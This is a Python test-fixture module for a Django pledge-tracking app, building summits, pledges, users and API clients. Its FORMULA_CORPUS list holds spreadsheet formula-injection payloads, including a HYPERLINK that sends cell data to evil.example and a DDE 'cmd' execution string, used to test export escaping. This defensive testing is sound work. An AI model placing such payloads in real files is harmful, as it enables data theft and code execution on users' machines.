"""Builders of valid records for the tests, and the accounts and API clients they act as.

Each builder makes the least that is valid and takes any model field as a keyword, so a test
spells out only what it is about. Records with a natural key (a source's key, a state's code,
a summit's or declaration's slug) are got or created by that key: asking twice for "FR" gives
the same France. Without a key, a builder makes a new record under a fresh one.

Defaults, one per builder:
  source       key "source-<n>", publisher "Example News", URL on example.org
  state        "FR"; name "State <code>"
  summit       slug "summit-<n>", a leaders' summit on DAY
  declaration  slug "declaration-<n>", an adopted joint declaration
  pledge       slug "pledge-<n>", title "Pledge <slug>", category funding, pledged by France,
               no citations
  move         a fresh source, note "as reported"
  user         a staff account without a usable password (tests log in with force_login;
               pass password=PASSWORD to log in through the login form, staff=False for an
               account the API alone serves)

Larger sets: `register()` (the export and import tests' register), `world()` with
`reported_pledge()` and `one_of_each()` (the public pages' small register), `french_pledge()`
(the seed's EUR 2 billion pledge, for the admin tests)."""

import datetime
import itertools
from decimal import Decimal
from importlib import import_module

from django.contrib.auth.models import Group, Permission, User
from rest_framework.test import APIClient

from commitments.choices import (
    Category,
    Condition,
    ConditionState,
    Currency,
    DeclarationKind,
    DeclarationStatus,
    MonitoringRole,
    StateKind,
    Status,
    SummitKind,
)
from commitments.models import (
    ApiToken,
    Citation,
    Declaration,
    ForceRequirement,
    Pledge,
    Source,
    State,
    StatusChange,
    Summit,
)

PASSWORD = "a-long-test-password-1"
DAY = datetime.date(2025, 3, 27)  # the Paris summit of the Coalition of the Willing
FRENCH_PLEDGE = "French aid announcement of 2 billion euros"
# Text cells a spreadsheet would run (or did run, in published attacks) as formulas.
FORMULA_CORPUS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+33 1 23 45 67 89",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=tab first",
    "\r=carriage return first",
    "'already quoted",
    "=cmd|' /C calc'!A0",
]

_serial = itertools.count(1)


def _fresh(prefix: str) -> str:
    return f"{prefix}-{next(_serial)}"


# ---------------------------------------------------------------------------------------------
# Records


def source(key=None, **fields) -> Source:
    """The source with this key (created if absent), or a new source under a fresh key."""
    key = key or _fresh("source")
    defaults = {"title": f"Report {key}", "publisher": "Example News", "url": f"https://example.org/{key}"}
    return Source.objects.get_or_create(key=key, defaults={**defaults, **fields})[0]


_source = source  # for `move`, whose `source` argument hides this builder


def state(code="FR", name=None, **fields) -> State:
    """The state with this code, created if absent (named "State <code>" unless a name is given)."""
    return State.objects.get_or_create(code=code, defaults={"name": name or f"State {code}", **fields})[0]


def summit(slug=None, **fields) -> Summit:
    """The summit with this slug (created if absent), or a new one: a leaders' summit on DAY."""
    slug = slug or _fresh("summit")
    defaults = {"title": f"Summit {slug}", "kind": SummitKind.LEADERS_SUMMIT, "date": DAY}
    return Summit.objects.get_or_create(slug=slug, defaults={**defaults, **fields})[0]


def declaration(slug=None, **fields) -> Declaration:
    """The declaration with this slug (created if absent), or a new one: an adopted joint declaration."""
    slug = slug or _fresh("declaration")
    defaults = {
        "title": f"Declaration {slug}",
        "kind": DeclarationKind.JOINT_DECLARATION,
        "status": DeclarationStatus.ADOPTED,
    }
    return Declaration.objects.get_or_create(slug=slug, defaults={**defaults, **fields})[0]


def pledge(slug=None, *, pledgers=("FR",), citations=0, **fields) -> Pledge:
    """A new pledge. `pledgers` are state codes (got or created) or State objects; each of the
    `citations` quotes "quote <i> of <slug>" from a source of its own."""
    slug = slug or _fresh("pledge")
    fields.setdefault("title", f"Pledge {slug}")
    fields.setdefault("category", Category.FUNDING)
    made = Pledge.objects.create(slug=slug, **fields)
    made.pledgers.set([state(p) if isinstance(p, str) else p for p in pledgers])
    for index in range(citations):
        Citation.objects.create(pledge=made, source=source(), quote=f"quote {index} of {slug}")
    return made


def move(pledge, status, on, *, source=None, user=None, **kwargs) -> StatusChange:
    """`pledge` moved to `status` with effect `on` that day, through Pledge.change_status (the only
    writer of a status). Other keywords (note, quote, precision, ...) go to change_status."""
    kwargs.setdefault("note", "as reported")
    return pledge.change_status(
        status, effective_date=on, source=source if source is not None else _source(), user=user, **kwargs
    )


def french_pledge() -> Pledge:
    """The seed's "France, EUR 2 billion" pledge, cited once, for the admin tests (which need no seed)."""
    state("FR", "France")
    made = pledge(
        "fr-aid-2-billion-euros-2025",
        title=FRENCH_PLEDGE,
        amount=Decimal("2000000000"),
        currency=Currency.EUR,
        value_date=datetime.date(2025, 3, 1),
        fx_rate=Decimal(1),
        amount_eur=Decimal("2000000000"),
    )
    Citation.objects.create(pledge=made, source=source("france24-2025-03"), quote="2 billion euros")
    return made


# ---------------------------------------------------------------------------------------------
# Accounts and clients


# The migrations that grant the roles their rights, each with its own ROLES.
ROLE_MIGRATIONS = ("0002_roles", "0007_roles_instruments", "0010_review", "0011_releases", "0014_webhooks")


def role_codenames() -> dict[str, set[str]]:
    """{role: the permission codenames the role migrations give it}, from their own ROLES."""
    roles: dict[str, set[str]] = {}
    for name in ROLE_MIGRATIONS:
        for role, codenames in import_module(f"commitments.migrations.{name}").ROLES.items():
            roles.setdefault(role, set()).update(codenames)
    return roles


def ensure_roles() -> None:
    """The groups the roles migrations create, from their own ROLES. Tests on a transactional
    database (the browser tests) empty every table afterwards; permissions come back with
    post_migrate, the groups do not."""
    for name, codenames in role_codenames().items():
        group, created = Group.objects.get_or_create(name=name)
        if created:
            group.permissions.set(
                Permission.objects.filter(content_type__app_label="commitments", codename__in=codenames)
            )


def user(username=None, role=None, *, superuser=False, password=None, staff=True) -> User:
    """A staff account, in the role's group ("Analyst" or "Viewer") or a superuser. Without a
    password it has none usable (hashing one takes a quarter of a second). staff=False gives an
    account that may not enter the admin, as a script's or a partner's behind an API token."""
    username = username or _fresh((role or ("root" if superuser else "staff")).lower())
    account = User.objects.create_user(username, password=password, is_staff=staff or superuser, is_superuser=superuser)
    if role:
        ensure_roles()
        account.groups.add(Group.objects.get(name=role))
    return account


def if_match(pledge) -> dict:
    """The If-Match header of a write to the pledge as it is now stored (API_REQUIRE_IF_MATCH)."""
    version = Pledge.objects.values_list("version", flat=True).get(pk=pledge.pk)
    return {"HTTP_IF_MATCH": f'"pledge-{pledge.pk}-v{version}"'}


def token_client(user, *, can_write) -> tuple[APIClient, ApiToken]:
    """An API client sending a new token of `user`'s (read-write or read-only) on every request."""
    token, key = ApiToken.issue(user, name="test", can_write=can_write)
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {key}")
    return client, token


def session_client(user) -> APIClient:
    """An API client signed in as `user`, as the browsable API and the admin are used."""
    client = APIClient()
    client.force_login(user)
    return client


# ---------------------------------------------------------------------------------------------
# Registers


def register() -> dict:
    """The export and import tests' register: a joint pledge with a share, an unquantified troop
    pledge, money in two currencies and without an amount, a state coded NA, and text a
    spreadsheet would run as a formula. Returns the records tests refer to."""
    fr = state("FR", "France")
    gb = state("GB", "United Kingdom")
    us = state("US", "United States")
    na = state("NA", "Namibia")  # 'NA' must not be read as a missing value
    cow = state("COW", "Coalition of the Willing", kind=StateKind.COALITION)
    first = source(
        "guardian-2026-01-06",
        title='Allies agree "security guarantees", plan\nfor force',
        publisher="The Guardian",
        url="https://example.org/a",
        published_on=datetime.date(2026, 1, 6),
    )
    other = source("reuters-2026-01-07", title="Follow-up", publisher="", url="", seed_file="001.txt")
    paris = summit("paris-2026", title="Paris summit", city="Paris", date=datetime.date(2026, 1, 6))
    london = summit("london-2025", title="London summit", date=datetime.date(2025, 3, 2))
    paris.hosts.set([fr])
    paris.chairs.set([gb])
    paris.organisers.set([gb, fr])
    paris_text = declaration(
        "paris-declaration", title="Paris Declaration", date=datetime.date(2026, 1, 6), summit=paris
    )
    bulk = pledge(
        "fr-gb-bulk",
        pledgers=(fr, gb),
        title="The bulk of the troops",
        category=Category.TROOPS,
        summit=paris,
        declaration=paris_text,
        troops_min=5000,
        troops_max=10000,
        condition=Condition.UPON_CEASEFIRE,
        condition_state=ConditionState.PENDING,
        condition_text='after a ceasefire, "durable"',
    )
    Citation.objects.create(pledge=bulk, source=first, quote="the bulk of the troops")
    Citation.objects.create(pledge=bulk, source=other, quote="later confirmation")
    move(bulk, Status.ANNOUNCED, datetime.date(2026, 1, 6), source=first, note="Announced")
    share = pledge(
        "fr-share",
        pledgers=(fr,),
        title="French troops",
        category=Category.TROOPS,
        part_of=bulk,
        troops_min=2000,
        troops_max=4000,
        summit=paris,
    )
    vague = pledge(
        "cow-reassurance",
        pledgers=(cow,),
        title="Reassurance forces",
        category=Category.TROOPS,
        summit=london,
        quantity_text="thousands of troops",
    )
    money = pledge(
        "fr-aid",
        pledgers=(fr,),
        title="French aid",
        summit=london,
        amount=Decimal("2000000000.00"),
        currency=Currency.EUR,
        value_date=datetime.date(2025, 3, 2),
        fx_rate=Decimal(1),
        amount_eur=Decimal("2000000000.00"),
    )
    dollars = pledge(
        "us-aid",
        pledgers=(us,),
        title="US aid",
        amount=Decimal("1000.50"),
        currency=Currency.USD,
        value_date=datetime.date(2026, 1, 5),
        fx_rate=Decimal("0.91234567"),
        amount_eur=Decimal("912.80"),
        last_reviewed_at=datetime.datetime(2026, 1, 7, 9, 30, 15, 123456, tzinfo=datetime.UTC),
    )
    unpriced = pledge("na-aid", pledgers=(na,), title="Aid, amount not given", quantity_text="further aid")
    formulas = [
        pledge(
            f"formula-{index}",
            pledgers=(gb,),
            title=text,
            description=f"line one\r\nline two, {text}",
            category=Category.DIPLOMATIC,
            quantity_text=text,
            condition_text=text,
        )
        for index, text in enumerate(FORMULA_CORPUS)
    ]
    requirement = ForceRequirement.objects.create(
        slug="multinational-force", title="Multinational force", summit=paris, troops_min=15000, troops_max=30000
    )
    return {
        "states": {"FR": fr, "GB": gb, "US": us, "NA": na, "COW": cow},
        "source": first,
        "other_source": other,
        "summits": {"paris": paris, "london": london},
        "declaration": paris_text,
        "bulk": bulk,
        "share": share,
        "vague": vague,
        "money": money,
        "dollars": dollars,
        "unpriced": unpriced,
        "formulas": formulas,
        "requirement": requirement,
    }


def world() -> dict:
    """The public pages' small register: two sources, France, the United Kingdom and the
    Coalition as a group, a meeting on DAY, its declaration and its force requirement. Add
    pledges with `reported_pledge` or `one_of_each`."""
    first = source("report-a", title="Leaders meet in Paris", publisher="The Guardian", url="https://example.org/a")
    other = source("report-b", title="Coalition summit", publisher="Radio Liberty", url="", seed_file="b.txt")
    states = {
        "FR": state("FR", "France"),
        "GB": state("GB", "United Kingdom"),
        "COW": state("COW", "Coalition of the Willing", kind=StateKind.COALITION),
    }
    paris = summit("paris", title="Paris summit", date=DAY, city="Paris")
    return {
        "source": first,
        "other_source": other,
        "states": states,
        "summit": paris,
        "declaration": declaration("paris-declaration", title="Paris Declaration", date=DAY, summit=paris),
        "requirement": ForceRequirement.objects.create(
            slug="force", title="Multinational force", summit=paris, troops_min=15000, troops_max=30000
        ),
    }


def reported_pledge(world, title, pledgers=("FR",), *, status=Status.ANNOUNCED, citations=1, **fields) -> Pledge:
    """A pledge of the world's meeting and declaration as the pages show one: each citation from
    the world's first source ("quoted phrase <i>", attributed to Emmanuel Macron), and moved to
    `status` on DAY."""
    made = pledge(pledgers=pledgers, title=title, summit=world["summit"], declaration=world["declaration"], **fields)
    for number in range(citations):
        Citation.objects.create(
            pledge=made, source=world["source"], quote=f"quoted phrase {number}", attribution="Emmanuel Macron"
        )
    move(made, status, DAY, source=world["source"], note="As reported.", quote="announced")
    return made


def one_of_each(world) -> dict:
    """One pledge of every kind the overview counts differently, by kind: money in euros and in
    pounds, a joint troop pledge and a share of it, an unquantified troop pledge, a monitoring role."""
    joint = reported_pledge(
        world,
        "Troops for a reassurance force",
        ("FR", "GB"),
        category=Category.TROOPS,
        troops_min=10000,
        troops_max=20000,
        condition=Condition.UPON_CEASEFIRE,
        condition_state=ConditionState.PENDING,
        status=Status.COMMITTED,
    )
    return {
        "funding": reported_pledge(
            world,
            "Aid of 2 billion euros",
            ("FR",),
            category=Category.FUNDING,
            amount=Decimal("2000000000"),
            currency=Currency.EUR,
            value_date=DAY,
            fx_rate=Decimal(1),
            amount_eur=Decimal("2000000000"),
        ),
        "pounds": reported_pledge(
            world,
            "Aid of 1 billion pounds",
            ("GB",),
            category=Category.FUNDING,
            amount=Decimal("1000000000"),
            currency=Currency.GBP,
            value_date=DAY,
            fx_rate=Decimal("1.2"),
            amount_eur=Decimal("1200000000"),
        ),
        "joint": joint,
        "share": reported_pledge(
            world,
            "France's share of the force",
            ("FR",),
            category=Category.TROOPS,
            troops_min=5000,
            troops_max=5000,
            part_of=joint,
        ),
        "vague": reported_pledge(
            world,
            "Thousands of troops",
            ("COW",),
            category=Category.TROOPS,
            quantity_text="thousands of troops",
            condition=Condition.UPON_CEASEFIRE,
            condition_state=ConditionState.PENDING,
            status=Status.PROPOSED,
        ),
        "monitoring": reported_pledge(
            world,
            "Lead the monitoring",
            ("COW",),
            category=Category.MONITORING,
            monitoring_role=MonitoringRole.LEAD,
            monitoring_means="drones, satellites",
        ),
    }


# --- instruments, people, statements ---
#   instrument         slug "instrument-<n>", a multinational force; `parties` as (code or State, role)
#   instrument_party   a party's role in an instrument, quoted from a fresh source
#   person             slug "person-<n>", name "Person <slug>"
#   post               slug "post-<n>", a minister's post held for France, its holder if given
#   statement          slug "statement-<n>", France supports; `about` any pledges, instruments,
#                      declarations and summits
#   architecture()     a register of its own: the API's "done when" questions are asked of it
#   world_architecture(world)  the same kind of register inside the pages' world

from commitments.choices import InstrumentKind, InstrumentRole, InstrumentStatus, RepresentativeRole, Stance  # noqa: E402
from commitments.models import Attendance, Instrument, InstrumentParty, Person, Post, Statement  # noqa: E402


def instrument(slug=None, *, parties=(), **fields) -> Instrument:
    """The instrument with this slug (created if absent), or a new one: a multinational force.
    Each of `parties`, a (state code or State, role) pair, is quoted from a fresh source."""
    slug = slug or _fresh("instrument")
    defaults = {"name": f"Instrument {slug}", "kind": InstrumentKind.FORCE}
    made = Instrument.objects.get_or_create(slug=slug, defaults={**defaults, **fields})[0]
    for party, role in parties:
        instrument_party(made, party, role, quote=f"{party} as {role} of {slug}")
    return made


def instrument_party(instrument, party="FR", role=InstrumentRole.LEAD, **fields) -> InstrumentParty:
    """`party` (a state code, got or created, or a State) in `role` of `instrument`, from a fresh source."""
    if "source" not in fields:
        fields["source"] = _source()  # (setdefault would make one even when given)
    fields.setdefault("quote", f"{role} of the instrument")
    return InstrumentParty.objects.create(
        instrument=instrument, state=state(party) if isinstance(party, str) else party, role=role, **fields
    )


def person(slug=None, **fields) -> Person:
    """The person with this slug (created if absent), or a new one named "Person <slug>"."""
    slug = slug or _fresh("person")
    return Person.objects.get_or_create(slug=slug, defaults={"name": f"Person {slug}", **fields})[0]


def post(slug=None, *, holder=None, party="FR", **fields) -> Post:
    """A new post held for `party` (a state code, got or created, or a State) by `holder` (a
    Person, or None: a post the report names without its holder): a minister's unless a role is
    given, quoted from a fresh source."""
    slug = slug or _fresh("post")
    fields.setdefault("title", f"Post {slug}")
    fields.setdefault("role", RepresentativeRole.MINISTER)
    if "source" not in fields:
        fields["source"] = source()  # (setdefault would make one even when given)
    fields.setdefault("quote", f"the {fields['title']}")
    return Post.objects.create(
        slug=slug, person=holder, state=state(party) if isinstance(party, str) else party, **fields
    )


def statement(slug=None, *, about=(), **fields) -> Statement:
    """A new statement (France supports, unless a speaker or state is given), quoted from a fresh
    source, about each of `about` (pledges, instruments, declarations or summits)."""
    slug = slug or _fresh("statement")
    if "speaker" not in fields and "state" not in fields:
        fields["state"] = state("FR")
    fields.setdefault("stance", Stance.SUPPORTS)
    if "source" not in fields:
        fields["source"] = source()  # (setdefault would make one even when given)
    fields.setdefault("quote", f"words of {slug}")
    made = Statement.objects.create(slug=slug, **fields)
    relation = {Pledge: "pledges", Instrument: "instruments", Declaration: "declarations", Summit: "summits"}
    for record in about:
        getattr(made, relation[type(record)]).add(record)
    return made


def architecture() -> dict:
    """A small register of the guarantees' architecture, for the API's "done when" questions:
    a US-led monitoring mechanism with two participants; a multinational force led by France and
    the UK, its 15,000–30,000 requirement, a joint troop contribution (5,000–10,000), a share of
    it (not counted again) and an unquantified one ("thousands of troops"); statements that
    support, qualify and reject; a meeting attended by France (its president, named), the US
    (its envoy, named) and the UK (its Defence Secretary, not named), chaired by that post."""
    fr, gb, us = state("FR", "France"), state("GB", "United Kingdom"), state("US", "United States")
    ru = state("RU", "Russia")
    cow = state("COW", "Coalition of the Willing", kind=StateKind.COALITION)
    report = source("report-arch", title="Leaders agree a force", publisher="Example News")
    paris = summit("paris-arch", title="Paris summit", city="Paris", date=DAY)
    monitoring = instrument(
        "ceasefire-monitoring",
        name="Ceasefire monitoring and verification mechanism",
        kind=InstrumentKind.MONITORING,
        parties=(("US", InstrumentRole.LEAD), ("GB", InstrumentRole.PARTICIPANT), ("FR", InstrumentRole.PARTICIPANT)),
    )
    force = instrument(
        "multinational-force",
        name="Multinational Force Ukraine",
        parties=(("FR", InstrumentRole.LEAD), ("GB", InstrumentRole.LEAD), ("COW", InstrumentRole.CONTRIBUTOR)),
        condition=Condition.UPON_CEASEFIRE,
        condition_text="once a ceasefire is agreed",
        condition_state=ConditionState.PENDING,
    )
    move(force, InstrumentStatus.PROPOSED, datetime.date(2025, 3, 2), source=report)
    move(force, InstrumentStatus.AGREED, DAY, source=report)
    requirement = ForceRequirement.objects.create(
        slug="force-size", title="Force size", instrument=force, troops_min=15000, troops_max=30000
    )
    joint = pledge(
        "fr-gb-troops",
        pledgers=(fr, gb),
        category=Category.TROOPS,
        troops_min=5000,
        troops_max=10000,
        contributes_to=force,
        summit=paris,
    )
    share = pledge(
        "fr-troops", pledgers=(fr,), category=Category.TROOPS, troops_min=2000, part_of=joint, contributes_to=force
    )
    vague = pledge(
        "cow-troops",
        pledgers=(cow,),
        category=Category.TROOPS,
        quantity_text="thousands of troops",
        contributes_to=force,
    )
    lead_monitoring = pledge(
        "us-monitoring",
        pledgers=(us,),
        category=Category.MONITORING,
        monitoring_role=MonitoringRole.LEAD,
        contributes_to=monitoring,
    )
    macron, witkoff = person("emmanuel-macron", name="Emmanuel Macron"), person("steve-witkoff", name="Steve Witkoff")
    president = post(
        "fr-president",
        holder=macron,
        party="FR",
        title="President",
        role=RepresentativeRole.HEAD_OF_STATE_OR_GOVERNMENT,
    )
    envoy = post("us-envoy", holder=witkoff, party="US", title="envoy", role=RepresentativeRole.ENVOY)
    defence = post("gb-defence-secretary", party="GB", title="Defence Secretary")
    for code, represented_by, posts in (
        ("FR", "President Emmanuel Macron", [president]),
        ("US", "Washington's envoy Steve Witkoff", [envoy]),
        ("GB", "the Defence Secretary", [defence]),
    ):
        attendance = Attendance.objects.create(
            summit=paris, state=state(code), represented_by=represented_by, source=report, quote=represented_by
        )
        attendance.representatives.set(posts)
    paris.chaired_by.set([defence])
    statements = {
        "supports": statement(
            "macron-supports", speaker=macron, state=fr, summit=paris, made_on=DAY, about=(force, joint)
        ),
        "qualifies": statement(
            "witkoff-qualifies",
            speaker=witkoff,
            state=us,
            stance=Stance.QUALIFIES,
            made_on=DAY,
            quote="monitoring only after a ceasefire",
            about=(monitoring,),
        ),
        "rejects": statement(
            "russia-rejects", state=ru, stance=Stance.REJECTS, quote="no foreign troops", about=(force, paris)
        ),
    }
    return {
        "source": report,
        "summit": paris,
        "monitoring": monitoring,
        "force": force,
        "requirement": requirement,
        "joint": joint,
        "share": share,
        "vague": vague,
        "lead_monitoring": lead_monitoring,
        "people": {"macron": macron, "witkoff": witkoff},
        "posts": {"president": president, "envoy": envoy, "defence": defence},
        "statements": statements,
    }


def world_architecture(world) -> dict:
    """The world's guarantees as instruments: a multinational force led by France and the United
    Kingdom (the Coalition taking part), proposed then agreed on DAY, upon a ceasefire, set
    against the world's force requirement, fed by a joint troop pledge of 10,000–20,000 and an
    unquantified one; a US-led monitoring mechanism with neither contributions nor requirement;
    Emmanuel Macron, President of France, representing France at the meeting, which a UK Defence
    Secretary the report does not name chaired; a statement by Macron supporting the force and
    one by the United States (no speaker named) rejecting it. Returns the records tests use."""
    fr, gb, cow = world["states"]["FR"], world["states"]["GB"], world["states"]["COW"]
    us = state("US", "United States")
    force = instrument(
        "multinational-force",
        name="Multinational Force Ukraine",
        kind=InstrumentKind.FORCE,
        mandate="to secure Ukraine's skies and seas after a ceasefire",
        condition=Condition.UPON_CEASEFIRE,
        condition_text="once a ceasefire is agreed",
        condition_state=ConditionState.PENDING,
    )
    force.declarations.set([world["declaration"]])
    for party, role in ((fr, InstrumentRole.LEAD), (gb, InstrumentRole.LEAD), (cow, InstrumentRole.PARTICIPANT)):
        instrument_party(force, party, role, source=world["source"], quote=f"{party.name} as {role}")
    move(force, InstrumentStatus.PROPOSED, DAY - datetime.timedelta(days=30), source=world["other_source"])
    move(force, InstrumentStatus.AGREED, DAY, source=world["source"], note="Agreed in Paris.", quote="agreed force")
    Citation.objects.create(instrument=force, source=world["source"], field="mandate", quote="skies and seas")
    requirement = world["requirement"]
    requirement.instrument = force
    requirement.save()
    troops = reported_pledge(
        world,
        "Troops for the force",
        ("FR", "GB"),
        category=Category.TROOPS,
        troops_min=10000,
        troops_max=20000,
        contributes_to=force,
    )
    vague = reported_pledge(
        world,
        "Thousands of troops for the force",
        ("COW",),
        category=Category.TROOPS,
        quantity_text="thousands of troops",
        contributes_to=force,
        status=Status.PROPOSED,
    )
    monitoring = instrument("monitoring", name="Ceasefire monitoring mechanism", kind=InstrumentKind.MONITORING)
    instrument_party(monitoring, us, InstrumentRole.LEAD, source=world["source"], quote="US-led")
    macron = person("emmanuel-macron", name="Emmanuel Macron")
    president = post(
        "fr-president",
        holder=macron,
        party=fr,
        title="President",
        role=RepresentativeRole.HEAD_OF_STATE_OR_GOVERNMENT,
        source=world["source"],
        quote="President Emmanuel Macron",
    )
    defence = post(
        "gb-defence-secretary",
        party=gb,
        title="Defence Secretary",
        source=world["other_source"],
        quote="the Defence Secretary",
    )
    attendance = Attendance.objects.create(summit=world["summit"], state=fr, source=world["source"])
    attendance.representatives.set([president])
    world["summit"].chaired_by.set([defence])
    support = statement(
        "macron-supports-force",
        about=(force, troops),
        speaker=macron,
        state=fr,
        stance=Stance.SUPPORTS,
        made_on=DAY,
        summit=world["summit"],
        quote="we will be there on day one",
        source=world["source"],
    )
    rejection = statement(
        "us-rejects-force",
        about=(force,),
        state=us,
        stance=Stance.REJECTS,
        quote="no American boots on the ground",
        source=world["other_source"],
    )
    return {
        "force": force,
        "monitoring": monitoring,
        "troops": troops,
        "vague": vague,
        "macron": macron,
        "president": president,
        "defence": defence,
        "support": support,
        "rejection": rejection,
        "US": us,
    }
